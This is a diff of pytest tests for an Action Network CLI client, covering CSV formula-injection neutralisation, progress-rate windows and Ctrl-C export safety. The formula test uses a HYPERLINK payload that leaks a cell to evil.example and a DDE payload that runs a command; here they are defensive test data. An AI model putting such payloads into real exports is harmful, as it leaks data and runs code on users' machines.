@@ -12,6 +12,7 @@ import json
 import math
 import os
 import pty
+import re
 import signal
 import subprocess
 import sys
@@ -22,6 +23,7 @@ import pytest
 
 from actionnetwork_async import API_KEY_ENV, BASE_URL_ENV
 from actionnetwork_async.cli import main
+from actionnetwork_async.cli.export import RATE_MIN_SPAN, RateWindow
 from actionnetwork_async.testing import Emulator, serve_in_thread
 
 KEY = "cli-test-key-5f0c2a9e8d7b6a41"
@@ -95,6 +97,57 @@ def test_export_csv_flattens_people_into_columns(
     rows = list(csv.DictReader(io.StringIO(out, newline="")))
     assert rows[120]["custom_fields.shirt_size"] == "L"
     assert json.loads(rows[120]["custom_fields_other"]) == {"volunteer": "yes", "seq": "120"}
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
+DDE = "+cmd|' /C calc'!A0"
+
+
+def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised_and_phone_numbers_kept(
+    emu: Emulator, capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    hostile, plain = emu.state["people"].values()[3], emu.state["people"].values()[4]
+    hostile.update(given_name=HYPERLINK, family_name="@SUM(1+1)*cmd|' /C calc'!A0")
+    hostile["custom_fields"]["volunteer"] = DDE
+    hostile["phone_numbers"][0]["number"] = "+12025550100"
+    plain.update(given_name="-2+3", family_name="\rCarriage")
+    plain["custom_fields"]["volunteer"] = "-12.5"
+    plain["phone_numbers"][0]["number"] = "+1 (202) 555-0101"
+    target = tmp_path / "people.csv"
+    status, _, _ = run(capsys, "export", "people", "--format", "csv", "-o", str(target), *FAST)
+    assert status == 0
+    rows = list(csv.DictReader(target.open(newline="", encoding="utf-8")))
+    assert rows[3]["given_name"] == "'" + HYPERLINK
+    assert rows[3]["family_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert rows[3]["custom_fields.volunteer"] == "'" + DDE
+    assert rows[3]["phone"] == "+12025550100"  # a phone number stays usable
+    assert rows[4]["given_name"] == "'-2+3"
+    assert rows[4]["family_name"] == "'\rCarriage"
+    assert rows[4]["custom_fields.volunteer"] == "-12.5"  # a number stays a number
+    assert rows[4]["phone"] == "+1 (202) 555-0101"
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    risky = [cell for row in rows for cell in row.values() if cell.startswith(starts)]
+    assert sorted(risky) == sorted(["+12025550100", "-12.5", "+1 (202) 555-0101"])
+
+    status, out, _ = run(capsys, "export", "people", "--format", "csv", "--no-formula-guard", *FAST)
+    assert status == 0
+    verbatim = list(csv.DictReader(io.StringIO(out, newline="")))
+    assert verbatim[3]["given_name"] == HYPERLINK
+    assert verbatim[3]["custom_fields.volunteer"] == DDE
+    status, out, _ = run(capsys, "export", "people", *FAST)  # JSONL is data, never guarded
+    assert json.loads(out.splitlines()[3])["given_name"] == HYPERLINK
+    status, _, err = run(capsys, "export", "people", "--no-formula-guard", *FAST)
+    assert status == 2
+    assert "--no-formula-guard applies to --format csv" in err
+
+    with serve_in_thread(Emulator(rate_limit=None, api_key=KEY)) as empty:  # the import undoes it
+        status, _, err = run(
+            capsys, "import", "people", "--from", str(target), "--base-url", empty.base_url, *FAST
+        )
+        assert status == 0, err
+        (imported,) = [p for p in empty.state["people"].values() if p["given_name"] == HYPERLINK]
+        assert imported["custom_fields"]["volunteer"] == DDE
+        assert imported["phone_numbers"][0]["number"] == "+12025550100"
 
 
 def test_export_events_and_lists_as_csv(emu: Emulator, capsys: pytest.CaptureFixture[str]) -> None:
@@ -342,7 +395,8 @@ def test_ctrl_c_on_a_file_export_leaves_the_old_file_and_no_partial_one(
     big: Emulator, tmp_path: Path
 ) -> None:
     target = tmp_path / "people.jsonl"
-    target.write_text("yesterday's export\n")
+    yesterday = '{"given_name": "yesterday\'s export"}\n'  # an export: it may be replaced
+    target.write_text(yesterday)
     script = Path(sys.executable).with_name("actionnetwork")
     controller, terminal = pty.openpty()  # stderr on a terminal: the progress display shows
     process = subprocess.Popen(
@@ -373,5 +427,60 @@ def test_ctrl_c_on_a_file_export_leaves_the_old_file_and_no_partial_one(
     assert "retries" in text
     assert f"interrupted: {target} was not written" in text
     assert KEY not in text
-    assert target.read_text() == "yesterday's export\n"
+    assert target.read_text() == yesterday
     assert [p.name for p in tmp_path.iterdir()] == ["people.jsonl"]
+
+
+# -- progress rates ---------------------------------------------------------------------------
+def test_progress_rates_are_measured_over_a_window_never_from_a_burst(tmp_path: Path) -> None:
+    """Right after the tags step the display showed ``1222.03 requests/s``: the tag requests
+    over the first moments of the people step. Every rate shown stays near the limit."""
+    limit = 20
+    server = Emulator(people=2000, tags=3, taggings=450, rate_limit=None, api_key=KEY)
+    with serve_in_thread(server) as emu:
+        controller, terminal = pty.openpty()  # stderr on a terminal: the progress display shows
+        process = subprocess.Popen(
+            [sys.executable, "-m", "actionnetwork_async", "export", "people", "--with-tags",
+             "-o", str(tmp_path / "people.jsonl"), "--rate-limit", str(limit)],
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.DEVNULL,
+            stderr=terminal,
+            env=environment(emu),
+        )  # fmt: skip
+        os.close(terminal)
+        seen = b""
+        while True:
+            try:
+                chunk = os.read(controller, 4096)
+            except OSError:  # the terminal closed with the process
+                break
+            if not chunk:
+                break
+            seen += chunk
+        os.close(controller)
+        assert process.wait(timeout=60) == 0
+    text = seen.decode(errors="replace")
+    requests = [float(x) for x in re.findall(r"([0-9.]+) requests/s", text)]
+    records = [float(x) for x in re.findall(r"([0-9.]+) (?:records|taggings)/s", text)]
+    assert requests, text  # shown once a second of the step had passed
+    assert records, text
+    assert max(requests) <= limit * 1.5, text
+    assert max(records) <= 25 * limit * 1.5, text  # 25 records per page
+
+
+def test_a_rate_window_ignores_what_came_before_it_and_follows_the_rate() -> None:
+    window = RateWindow(window=10.0, min_span=RATE_MIN_SPAN)
+    window.add(500, 0.0)  # the step starts after 500 requests of the step before
+    window.add(501, 0.05)  # its first request: too short a span to tell a rate from
+    assert window.rate() is None
+    total, now = 501, 0.05
+    for _ in range(120):  # 30 s at 4 per second
+        now, total = now + 0.25, total + 1
+        window.add(total, now)
+        rate = window.rate()
+        assert rate is None or rate <= 4 + 1 / RATE_MIN_SPAN
+    assert window.rate() == pytest.approx(4.0, abs=0.05)
+    for _ in range(40):  # then 20 s at 2 per second
+        now, total = now + 0.5, total + 1
+        window.add(total, now)
+    assert window.rate() == pytest.approx(2.0, abs=0.05)  # the last 10 s only
